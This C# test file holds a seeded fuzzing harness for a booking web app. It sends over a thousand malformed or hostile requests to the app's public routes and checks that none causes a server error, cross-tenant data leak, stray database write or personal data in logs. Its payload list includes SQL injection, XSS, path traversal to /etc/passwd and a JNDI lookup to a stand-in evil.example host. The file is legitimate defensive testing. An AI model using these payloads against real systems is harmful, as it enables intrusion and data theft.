using System.Collections.Concurrent;
using System.Text;
using System.Text.Json.Nodes;
using AskPro.Tests.Support;
using AskPro.Web.Demo;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Http;
using Microsoft.AspNetCore.Http.Features;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace AskPro.Tests.Security;

/// <summary>Issue #17 item 7: a seeded generator of well over a thousand hostile requests over
/// every public route — signed and unsigned Retell and Cal.com deliveries, the REST API with and
/// without (and with another company's) key, the portal's forms, the booking page, magic links,
/// waitlist links — with malformed JSON, huge bodies, wrong content types, bad signatures,
/// injection strings, impossible dates, unknown tenants and other tenants' ids. None may get a 5xx;
/// a refused request (4xx) and every GET must leave the row count of every table of the model as it
/// was; another company's id is 404; and the log holds none of the personal data the harness sent.
/// Which routes are public is read from the app's own endpoint list (everything not behind the
/// portal's sign-in): the harness records where each request was routed, and a public route it never
/// reached fails the test by name — a new route is covered by adding a probe, not by forgetting it.</summary>
public sealed class HostileInputHarnessTests
{
    /// <summary>Change it to explore; a failure names the seed and the request number to replay.</summary>
    private const int Seed = 1717;
    private const int Requests = 1200;

    private const string Name = "Zora Hostilová", Phone = "+4917099887766", Email = "zora.hostile@example.org";

    /// <summary>What must never appear in a log line (the phone also without its plus).</summary>
    private static readonly string[] PersonalData = ["Hostilov", "17099887766", "zora.hostile"];

    private static readonly string[] Strings =
    [
        "' OR '1'='1", "'; DROP TABLE \"Customers\"; --", "\" OR 1=1 --", "1; SELECT * FROM AspNetUsers", "%' OR 1=1 --", "admin'--",
        "<script>window.__xss=1</script>", "<img src=x onerror=window.__xss=1>", "\"><svg onload=window.__xss=1>", "javascript:window.__xss=1",
        "../../../../etc/passwd", "..\\..\\web.config", "\u0000", "\u0007\u001b[31m", "${jndi:ldap://evil.example/a}", "{{7*7}}", "@{7*7}",
        new string('A', 5000), "😀\u202e\u200b", "-1", "0", "99999999999999999999", "1e308", "NaN", "null", "true", "[]", "{}", "",
        "2027-02-30", "31.02.2027", "2027-13-01T25:61:00+01:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "gestern", "32. Dezember",
        "25 Uhr", "-3 Uhr", Name, Phone, Email, "+49 170 99887766", "http://evil.example", "//evil.example",
    ];

    private static readonly string[] RetellFunctions =
        ["check_availability", "book_appointment", "cancel_appointment", "reschedule_appointment", "get_customer_appointments", "join_waitlist",
         "request_callback", "collect_appointment_data", "list_services", "initialize_call", "drop_table", ""];

    private static readonly string[] Malformed =
        ["{", "{\"event\":", "[", "nul", "\"text\"", "{\"a\":1}}", "{'single':'quotes'}", "{\"a\":NaN}", "\u00ef\u00bb\u00bf", "<xml/>", "a=b&c=d",
         new string('[', 5000) + new string(']', 5000), "{\"a\":\"\\ud800\"}", "\0\0\0"];

    private sealed record Probe(HttpMethod Method, string Path, HttpContent? Body, Dictionary<string, string> Headers, bool Foreign = false);

    [Fact]
    public async Task A_thousand_hostile_requests_get_no_server_error_store_nothing_when_refused_and_log_no_personal_data()
    {
        var logs = new CapturedLogs();
        var routed = new RoutedEndpoints();
        using var app = new AppHost(new()
        {
            ["Webhooks:WorkerEnabled"] = "false", ["Outbox:DispatcherEnabled"] = "false", ["Scheduler:Enabled"] = "false",
            ["Logging:LogLevel:Default"] = "Information",
            ["RateLimits:WebhooksPerIpPerMinute"] = "1000000", ["RateLimits:WebhooksPerTenantPerMinute"] = "1000000",
            ["OnlineBooking:PageLoadsPerIpPerMinute"] = "1000000", ["OnlineBooking:AttemptsPerIpPerHour"] = "1000000",
        }, logs: logs, services: s => s.AddSingleton<IStartupFilter>(routed));
        var foreign = await app.ReadAsync(async db => new
        {
            Appointment = await db.Appointments.Where(a => db.Companies.Any(c => c.Id == a.CompanyId && c.TenantKey == DemoData.Praxis.TenantKey)).Select(a => a.Id).FirstAsync(),
            Customer = await db.Customers.Where(x => db.Companies.Any(c => c.Id == x.CompanyId && c.TenantKey == DemoData.Praxis.TenantKey)).Select(x => x.Id).FirstAsync(),
            Call = await db.Calls.Where(x => db.Companies.Any(c => c.Id == x.CompanyId && c.TenantKey == DemoData.Praxis.TenantKey)).Select(x => x.Id).FirstAsync(),
        });
        var generator = new Generator(new Random(Seed), [foreign.Appointment, foreign.Customer, foreign.Call]);
        using var http = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false, UseCookies = false }) { BaseAddress = app.BaseAddress, Timeout = TimeSpan.FromSeconds(30) };

        var failures = new List<string>();
        var counts = await RowCountsAsync(app);
        for (var i = 0; i < Requests; i++)
        {
            var probe = i < 3 ? generator.Huge(i) : generator.Next();
            using var request = new HttpRequestMessage(probe.Method, probe.Path) { Content = probe.Body };
            foreach (var (header, value) in probe.Headers) request.Headers.TryAddWithoutValidation(header, value);
            using var response = await http.SendAsync(request);
            var status = (int)response.StatusCode;
            var after = await RowCountsAsync(app);
            var what = $"#{i} (seed {Seed}) {probe.Method} {Shorten(probe.Path)} → {status}";
            if (status >= 500 && !(status == 503 && probe.Path.StartsWith("/health/ready"))) failures.Add(what + ": " + Shorten(await response.Content.ReadAsStringAsync()));
            else if ((status >= 400 || probe.Method == HttpMethod.Get) && after != counts) failures.Add($"{what}: changed rows {Changed(counts, after)}");
            else if (probe.Foreign && status != 404) failures.Add(what + ": another company's id must be 404");
            // An accepted write may go on after its answer (the function log is written in batches
            // off the request path): wait for the database to settle, so that what it writes late is
            // not blamed on the next request.
            counts = status < 400 && probe.Method != HttpMethod.Get ? await SettledRowCountsAsync(app, after) : after;
        }
        Assert.True(failures.Count == 0, $"{failures.Count} of {Requests} requests went wrong:\n" + string.Join("\n", failures.Take(40)));

        var publicRoutes = AppEndpoints.Of(app.Services).Where(e => !AppEndpoints.IsFramework(e.Key) && !AppEndpoints.NeedsPortalSignIn(e) && !IsDevelopmentOnly(e.Key))
            .Select(e => e.Key).ToList();
        Assert.Contains("POST /api/webhooks/retell", publicRoutes);
        Assert.Contains("/book/{TenantKey}", publicRoutes);
        Assert.DoesNotContain("/settings/team", publicRoutes);
        var missed = publicRoutes.Where(route => !routed.Hits.ContainsKey(route)).Order().ToList();
        Assert.True(missed.Count == 0, "Public routes the harness never reached (give the generator a probe for each):\n" + string.Join("\n", missed));

        var crashes = logs.Entries.Where(e => e.StartsWith("Error") || e.StartsWith("Critical")).ToList();
        Assert.True(crashes.Count == 0, "Errors logged:\n" + string.Join("\n", crashes.Take(5).Select(e => e.Length > 3000 ? e[..3000] : e)));
        var leaks = logs.Entries.Select(e => (Entry: e, At: PersonalData.Select(p => e.IndexOf(p, StringComparison.OrdinalIgnoreCase)).Where(i => i >= 0).DefaultIfEmpty(-1).Min()))
            .Where(x => x.At >= 0).Select(x => Shorten(x.Entry) + " … " + x.Entry[Math.Max(0, x.At - 200)..Math.Min(x.Entry.Length, x.At + 60)]).ToList();
        Assert.True(leaks.Count == 0, "Personal data in the log:\n" + string.Join("\n", leaks.Take(10)));
    }

    /// <summary>The dev outbox (<c>/dev/...</c>) is mapped in Development only; production has no such route.</summary>
    private static bool IsDevelopmentOnly(string route) => route.Contains(" /dev/");

    /// <summary>The row count of every table of the model (so a new entity is counted without anyone
    /// listing it), across all companies, in one statement: "Table=rows,…".</summary>
    private static Task<string> RowCountsAsync(AppHost app) => app.ReadAsync(db =>
    {
        var tables = db.Model.GetEntityTypes().Select(t => t.GetTableName()).OfType<string>().Distinct().Order(StringComparer.Ordinal).ToList();
        // Table names come from the model, not from input.
        var sql = "SELECT " + string.Join(" || ',' || ", tables.Select(t => $"'{t}=' || (SELECT COUNT(*) FROM \"{t}\")")) + " AS \"Value\"";
        return db.Database.SqlQueryRaw<string>(sql).SingleAsync();
    });

    /// <summary>Records the endpoint each request was routed to: routing sets it through this
    /// feature, so even a request answered later with 4xx counts for the route it reached.</summary>
    private sealed class RoutedEndpoints : IStartupFilter
    {
        public ConcurrentDictionary<string, int> Hits { get; } = new();

        public Action<IApplicationBuilder> Configure(Action<IApplicationBuilder> next) => app =>
        {
            app.Use(async (context, inner) =>
            {
                context.Features.Set<IEndpointFeature>(new Recording(this, context.Request.Method));
                await inner();
            });
            next(app);
        };

        private sealed class Recording(RoutedEndpoints owner, string method) : IEndpointFeature
        {
            private Endpoint? _endpoint;

            public Endpoint? Endpoint
            {
                get => _endpoint;
                set
                {
                    _endpoint = value;
                    if (value is not null) owner.Hits.AddOrUpdate(AppEndpoints.KeyOf(value, method), 1, (_, n) => n + 1);
                }
            }
        }
    }

    /// <summary>The counts once two reads a quarter second apart agree (at most a few seconds).</summary>
    private static async Task<string> SettledRowCountsAsync(AppHost app, string last)
    {
        for (var i = 0; i < 20; i++)
        {
            await Task.Delay(250);
            var now = await RowCountsAsync(app);
            if (now == last) return now;
            last = now;
        }
        return last;
    }

    /// <summary>The tables whose counts differ: "Customers 100→101".</summary>
    private static string Changed(string before, string after) => string.Join(", ", before.Split(',').Zip(after.Split(','))
        .Where(p => p.First != p.Second).Select(p => $"{p.First.Split('=')[0]} {p.First.Split('=')[1]}→{p.Second.Split('=')[1]}"));

    private static string Shorten(string text) => text.Length <= 300 ? text : text[..300] + "…";

    /// <summary>Draws one hostile request at a time from the seeded random source.</summary>
    private sealed class Generator(Random random, Guid[] foreignIds)
    {
        private string S() => Strings[random.Next(Strings.Length)];

        /// <summary>For URLs: the hostile strings without the personal data. The app's own links never
        /// carry a name, number or address, and the request path is part of every log line's scope.</summary>
        private string Q() => Uri.EscapeDataString(Strings.Where(x => x is not (Name or Phone or Email)).ElementAt(random.Next(Strings.Length - 3)));
        private T Pick<T>(params T[] items) => items[random.Next(items.Length)];
        private static Dictionary<string, string> NoHeaders() => [];
        private static StringContent Json(string body, string type = "application/json") => new(body, Encoding.UTF8, type);

        public Probe Huge(int i) => i switch
        {
            0 => Signed("/api/webhooks/retell", new string(' ', 9 * 1024 * 1024) + "{}"),
            1 => new Probe(HttpMethod.Post, "/api/v1/customers", Json("{\"name\":\"" + new string('x', 3 * 1024 * 1024) + "\"}"), new() { ["X-Api-Key"] = DemoData.Salon.ApiKey }),
            _ => CalCom("{\"triggerEvent\":\"BOOKING_CREATED\",\"payload\":{\"uid\":\"" + new string('u', 3 * 1024 * 1024) + "\"}}", DemoData.Salon.TenantKey, sign: true),
        };

        public Probe Next() => random.Next(9) switch
        {
            0 => RetellWebhook(),
            1 => RetellFunction(),
            2 => CalComDelivery(),
            3 or 4 => Rest(),
            5 => PortalForm(),
            6 => PublicPage(),
            7 => Foreign(),
            _ => WrongContentType(),
        };

        private string Body() => random.Next(4) == 0 ? Pick(Malformed) : new JsonObject { [S()] = S(), ["name"] = S() }.ToJsonString();

        private Probe RetellWebhook()
        {
            var call = new JsonObject
            {
                ["call_id"] = Pick("call_h" + random.Next(1000), S()), ["to_number"] = Pick("+493055501000", "+490000000000", S()),
                ["from_number"] = Pick(Phone, S()), ["start_timestamp"] = Pick<JsonNode?>(-1, long.MaxValue, S(), null),
                ["transcript"] = $"Agent: Hallo. User: Ich bin {Name}, {Email}, {S()}",
                ["call_analysis"] = Pick<JsonNode?>(S(), new JsonObject { ["custom_analysis_data"] = new JsonObject { ["name"] = Name } }),
            };
            var body = random.Next(3) == 0 ? Pick(Malformed)
                : new JsonObject { ["event"] = Pick("call_started", "call_ended", "call_analyzed", "call_inbound", S()), ["call"] = call }.ToJsonString();
            return Signed("/api/webhooks/retell", body);
        }

        private Probe RetellFunction()
        {
            var args = new JsonObject
            {
                ["datum"] = S(), ["uhrzeit"] = S(), ["dienstleistung"] = Pick("Herrenhaarschnitt", S()), ["mitarbeiter"] = Pick("Julia", S()),
                ["name"] = Pick(Name, S()), ["telefon"] = Phone, ["email"] = Email, ["termin_id"] = Pick(foreignIds).ToString(),
            };
            var call = new JsonObject { ["call_id"] = "call_f" + random.Next(1000), ["to_number"] = Pick("+493055501000", "+498955502000", S()), ["from_number"] = Pick(Phone, S()) };
            var body = random.Next(5) == 0 ? Pick(Malformed)
                : new JsonObject { ["name"] = Pick(RetellFunctions), ["call"] = call, ["args"] = Pick<JsonNode?>(args, S(), null) }.ToJsonString();
            return Signed("/api/retell/functions", body);
        }

        /// <summary>Correctly signed, unsigned, signed with another key, signed an hour ago, or garbage.</summary>
        private Probe Signed(string path, string body)
        {
            var probe = new Probe(HttpMethod.Post, path, Json(body), NoHeaders());
            var header = random.Next(5) switch
            {
                0 or 1 => FakeRetell.Sign(body, FakeRetell.DemoKey, DateTimeOffset.UtcNow),
                2 => FakeRetell.Sign(body, "wrong-key", DateTimeOffset.UtcNow),
                3 => FakeRetell.Sign(body, FakeRetell.DemoKey, DateTimeOffset.UtcNow.AddHours(-1)),
                _ => Pick("", "v=,d=", "v=1,d=zz", S()),
            };
            if (random.Next(8) != 0) probe.Headers["X-Retell-Signature"] = header;
            return probe;
        }

        private Probe CalComDelivery()
        {
            var payload = new JsonObject
            {
                ["uid"] = Pick("h" + random.Next(1000), S()), ["eventTypeId"] = Pick<JsonNode?>(1002, S(), -1), ["startTime"] = S(), ["endTime"] = S(),
                ["organizer"] = new JsonObject { ["email"] = Pick("schmidt@demo-salon.demo", S()) },
                ["attendees"] = new JsonArray(new JsonObject { ["name"] = Pick(Name, S()), ["email"] = Pick(Email, S()), ["phoneNumber"] = Phone }),
            };
            var body = random.Next(4) == 0 ? Pick(Malformed)
                : new JsonObject { ["triggerEvent"] = Pick("BOOKING_CREATED", "BOOKING_RESCHEDULED", "BOOKING_CANCELLED", S()), ["payload"] = payload }.ToJsonString();
            var tenant = Pick(DemoData.Salon.TenantKey, DemoData.Praxis.TenantKey, "unbekannt", Q());
            return CalCom(body, tenant, sign: random.Next(3) != 0);
        }

        private Probe CalCom(string body, string tenant, bool sign)
        {
            var secret = Pick(FakeCalCom.SalonSecret, "wrong-secret");
            var headers = NoHeaders();
            if (sign) headers["X-Cal-Signature-256"] = Convert.ToHexStringLower(System.Security.Cryptography.HMACSHA256.HashData(Encoding.UTF8.GetBytes(secret), Encoding.UTF8.GetBytes(body)));
            return new Probe(HttpMethod.Post, $"/api/webhooks/calcom/{(tenant.Length == 0 ? "x" : tenant)}", Json(body), headers);
        }

        private Dictionary<string, string> Key()
        {
            var key = random.Next(6) switch { 0 => null, 1 => "ak_erfunden", 2 => S(), 3 => DemoData.Praxis.ApiKey, _ => DemoData.Salon.ApiKey };
            return key is null || key.Any(char.IsControl) || key.Any(c => c > 127) ? NoHeaders() : new() { ["X-Api-Key"] = key };
        }

        private Probe Rest()
        {
            var q = Q();
            return random.Next(9) switch
            {
                // A client looking a caller up by number or name: personal data in the query string, which no log may keep.
                8 => new Probe(HttpMethod.Get, Pick("/api/v1/customers?phone=" + Uri.EscapeDataString(Phone), "/api/v1/customers?search=" + Uri.EscapeDataString(Name),
                    "/api/v1/customers?phone=" + Phone[1..]), null, Key()),
                0 => new Probe(HttpMethod.Get, Pick("/api/v1/customers?search=", "/api/v1/customers?phone=", "/api/v1/calls?from=", "/api/v1/appointments?from=",
                    "/api/v1/appointments?status=", "/api/v1/appointments?to=", "/api/v1/customers?page=", "/api/v1/calls?pageSize=", "/api/v1/customers?",
                    "/api/v1/staff?page=", "/api/v1/services?pageSize=", "/api/v1/branches?x=") + q, null, Key()),
                1 => new Probe(HttpMethod.Get, Pick("/api/v1/customers/", "/api/v1/appointments/", "/api/v1/calls/", "/api/v1/staff/", "/api/v1/services/", "/api/v1/branches/") + q, null, Key()),
                2 => new Probe(HttpMethod.Post, "/api/v1/customers", Json(random.Next(3) == 0 ? Pick(Malformed)
                    : new JsonObject { ["name"] = Pick(Name, S()), ["phone"] = Pick(Phone, S()), ["email"] = Pick(Email, S()), ["notes"] = S() }.ToJsonString()), Key()),
                3 => new Probe(HttpMethod.Post, "/api/v1/appointments", Json(new JsonObject
                    {
                        ["serviceId"] = Pick(Guid.NewGuid().ToString(), S()), ["staffId"] = S(), ["start"] = S(),
                        ["customer"] = new JsonObject { ["name"] = Name, ["phone"] = Phone, ["email"] = Email },
                    }.ToJsonString()), Key()),
                4 => new Probe(HttpMethod.Post, $"/api/v1/appointments/{q}/reschedule", Json(new JsonObject { ["start"] = S() }.ToJsonString()), Key()),
                5 => new Probe(HttpMethod.Post, $"/api/v1/appointments/{q}/cancel", Json(new JsonObject { ["reason"] = S() }.ToJsonString()), Key()),
                6 => random.Next(2) == 0
                    ? new Probe(HttpMethod.Patch, $"/api/v1/customers/{q}", Json(new JsonObject { ["email"] = S() }.ToJsonString()), Key())
                    : new Probe(HttpMethod.Patch, $"/api/v1/appointments/{q}", Json(new JsonObject { ["status"] = S(), ["start"] = S() }.ToJsonString()), Key()),
                _ => new Probe(HttpMethod.Delete, $"/api/v1/appointments/{q}", null, Key()),
            };
        }

        /// <summary>Another company's appointment, customer or call through the salon's key.</summary>
        private Probe Foreign()
        {
            var id = Pick(foreignIds);
            var salon = new Dictionary<string, string> { ["X-Api-Key"] = DemoData.Salon.ApiKey };
            return random.Next(6) switch
            {
                0 => new Probe(HttpMethod.Get, $"/api/v1/appointments/{id}", null, salon, Foreign: id == foreignIds[0]),
                1 => new Probe(HttpMethod.Get, $"/api/v1/customers/{id}", null, salon, Foreign: true),
                2 => new Probe(HttpMethod.Get, $"/api/v1/calls/{id}", null, salon, Foreign: true),
                3 => new Probe(HttpMethod.Post, $"/api/v1/appointments/{id}/cancel", Json("{\"reason\":\"fremd\"}"), salon, Foreign: true),
                4 => new Probe(HttpMethod.Patch, $"/api/v1/customers/{id}", Json("{\"notes\":\"fremd\"}"), salon, Foreign: true),
                _ => new Probe(HttpMethod.Delete, $"/api/v1/appointments/{id}", null, salon, Foreign: true),
            };
        }

        /// <summary>The portal's forms posted by a bot: no, a made-up or a stale token, hostile fields.</summary>
        private Probe PortalForm()
        {
            var fields = new Dictionary<string, string> { ["Input.Email"] = Pick(Email, S()), ["Input.Password"] = S(), ["Input.CompanyName"] = S(), ["Input.AdminName"] = Name };
            if (random.Next(2) == 0) fields["__RequestVerificationToken"] = Pick("CfDJ8erfunden", S());
            var (path, handler) = Pick(("/account/login", "login"), ("/account/forgot-password", "forgot"), ("/signup", "signup"),
                ("/account/reset-password?code=" + Q(), "reset"), ("/account/logout", ""), ("/account/select-company", ""),
                ("/portal?company=" + DemoData.Salon.TenantKey, "portal"), ("/book/" + DemoData.Salon.TenantKey, "booking"));
            if (handler.Length > 0) fields["_handler"] = handler;
            fields["companyId"] = Pick(foreignIds).ToString();
            return new Probe(HttpMethod.Post, path, new FormUrlEncodedContent(fields.Where(f => !f.Value.Contains('\0'))), NoHeaders());
        }

        /// <summary>Booking page, magic links, waitlist links, confirmation and reset links, the language switch.</summary>
        private Probe PublicPage()
        {
            var q = Q();
            var path = Pick($"/book/{q}", $"/book/{DemoData.Salon.TenantKey}?service={q}&staff={q}", $"/book/{q}/embed.js",
                $"/portal?company={q}&appointment={q}", $"/portal?company={DemoData.Salon.TenantKey}&appointment={Pick(foreignIds):N}",
                $"/portal/signin?company={DemoData.Salon.TenantKey}&token={q}", $"/portal/signin?company={q}&token={q}", $"/portal/signout?company={q}",
                $"/portal/my-data.json", $"/portal/appointments/{Pick(foreignIds)}/calendar.ics", $"/waitlist/{q}", $"/waitlist/{Guid.NewGuid():N}",
                $"/account/confirm-email?userId={q}&code={q}", $"/account/reset-password?code={q}&email={q}", $"/culture/set?culture={q}&redirectUri={q}",
                $"/account/login?returnUrl={q}", $"/customers/{Pick(foreignIds)}/export", $"/calls/{q}", $"/health/detailed?x={q}", $"/{q}",
                $"/health/live?x={q}", $"/health/ready?x={q}", $"/openapi/{q}.json", $"/openapi/v1.json?x={q}", $"/account/denied?x={q}", $"/error?x={q}",
                $"/not-found?x={q}", $"/account/forgot-password?email={q}", $"/signup?company={q}");
            return new Probe(HttpMethod.Get, path, null, NoHeaders());
        }

        private Probe WrongContentType()
        {
            var type = Pick("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-7", "image/png");
            var body = "{\"name\":\"" + Name + "\",\"phone\":\"" + Phone + "\"}";
            var path = Pick("/api/v1/customers", "/api/v1/appointments", "/api/webhooks/retell", "/api/retell/functions", $"/api/webhooks/calcom/{DemoData.Salon.TenantKey}");
            var content = new StringContent(body, Encoding.UTF8);
            content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse(type);
            var headers = path.StartsWith("/api/v1") ? new Dictionary<string, string> { ["X-Api-Key"] = DemoData.Salon.ApiKey } : NoHeaders();
            if (path.Contains("retell")) headers["X-Retell-Signature"] = FakeRetell.Sign(body, FakeRetell.DemoKey, DateTimeOffset.UtcNow);
            return new Probe(HttpMethod.Post, path, content, headers);
        }
    }
}
